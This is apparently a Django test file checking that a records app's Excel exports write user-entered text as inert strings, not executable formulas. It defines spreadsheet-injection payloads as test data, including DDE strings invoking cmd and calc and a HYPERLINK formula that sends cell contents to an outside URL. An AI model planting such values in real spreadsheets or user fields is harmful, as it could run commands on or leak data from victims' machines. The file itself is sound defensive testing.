"""Every Excel export writes what users typed as text, never as a formula Excel would run (issue 13,
item 2; OWASP "CSV injection"): the ledger export, the campaign board, the region's figures.

Each file is read back with openpyxl: the cell is a text cell (``data_type == "s"``, written as an
inline string, never ``<f>``) holding the text unchanged, with Excel's quote prefix so that editing
the cell keeps it text; and the ledger export imports back unchanged.
"""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from fazhi.campaigns.actions import do_open_campaign
from fazhi.lib.spreadsheets import inert, workbook_bytes
from fazhi.orgs.models import Unit
from fazhi.records.models import StudySession
from fazhi.testing import BaseTestCase

HYPERLINK = '=HYPERLINK("http://x?"&A2,"详情")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = [
    HYPERLINK,
    DDE,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def cells(content: bytes) -> dict[str, object]:
    """Every cell of every sheet holding text, by its text."""
    found = {}
    for ws in load_workbook(io.BytesIO(content)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    found[cell.value] = cell
    return found


class InertTest(BaseTestCase):
    def assert_text(self, content: bytes, expected: list[str]) -> None:
        found = cells(content)
        for text in expected:
            with self.subTest(text=text):
                self.assertIn(text, found)  # unchanged: no apostrophe, nothing cut
                cell = found[text]
                self.assertEqual(cell.data_type, "s")
                self.assertTrue(cell.quotePrefix)
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    self.assertIsNone(re.search(rb"<(\w+:)?f[ >]", archive.read(name)), name)

    def test_the_ledger_export_writes_each_title_as_text_and_imports_back_unchanged(self):
        for n, payload in enumerate(PAYLOADS, start=1):
            StudySession.objects.create(
                unit=self.unit_a,
                date=date(2024, 3, n),
                title=payload,
                form="lecture",
                speaker=DDE,
                notes=HYPERLINK,
            )
        self.client.force_login(self.zhang)
        export = self.client.get(reverse("records:export-records", args=[self.unit_a.pk, "study"]))
        self.assertEqual(export.status_code, 200)
        self.assert_text(export.content, PAYLOADS)

        StudySession.objects.all().delete()
        url = reverse("records:import-records", args=[self.unit_a.pk, "study"])
        response = self.client.post(
            url, {"file": SimpleUploadedFile("导出.xlsx", export.content)}, follow=True
        )
        self.assertEqual(
            [str(m) for m in response.context["messages"]],
            ["学法活动导入完成：新增 8 条，更新 0 条，未变 0 条。"],
        )
        titles = set(StudySession.objects.values_list("title", flat=True))
        # The import strips what it reads: a title starting with a tab or a return comes back without it.
        self.assertEqual(titles, {p.strip() for p in PAYLOADS})
        self.assertEqual(set(StudySession.objects.values_list("speaker", "notes")), {(DDE, HYPERLINK)})

    def test_the_campaign_board_writes_a_units_name_as_text(self):
        for name in (HYPERLINK, DDE):
            Unit.objects.create(name=name, region=self.region1)
        campaign = do_open_campaign(region=self.region1, year=2024, acting_user=self.han)
        self.client.force_login(self.han)
        response = self.client.get(reverse("campaigns:export-board", args=[campaign.pk]))
        self.assertEqual(response.status_code, 200)
        self.assert_text(response.content, [HYPERLINK, DDE])

    def test_the_regions_figures_write_unit_and_region_names_as_text(self):
        self.unit_a.name, self.unit_b.name = HYPERLINK, DDE
        self.unit_a.save()
        self.unit_b.save()
        self.region1.name = "=1+2"
        self.region1.save()
        self.client.force_login(self.han)
        response = self.client.get(reverse("home:export-region-figures", args=[self.region1.pk, 2024]))
        self.assertEqual(response.status_code, 200)
        found = cells(response.content)
        self.assert_text(response.content, [HYPERLINK, DDE, "=1+2", "=1+2（合计）"])
        self.assertTrue(any(text.startswith("=1+22024年度") for text in found))  # the title, too

    def test_a_cell_a_writer_forgot_to_make_inert_is_made_text_on_saving(self):
        wb = Workbook()
        wb.active.append([DDE, inert(HYPERLINK), "学习宪法", -3, None])
        wb.active["B2"] = "=SUM(A1)"  # openpyxl takes this for a formula
        content = workbook_bytes(wb)
        self.assert_text(content, [DDE, HYPERLINK, "=SUM(A1)"])
        plain = cells(content)["学习宪法"]
        self.assertFalse(plain.quotePrefix)
        self.assertEqual(load_workbook(io.BytesIO(content)).active["D1"].value, -3)
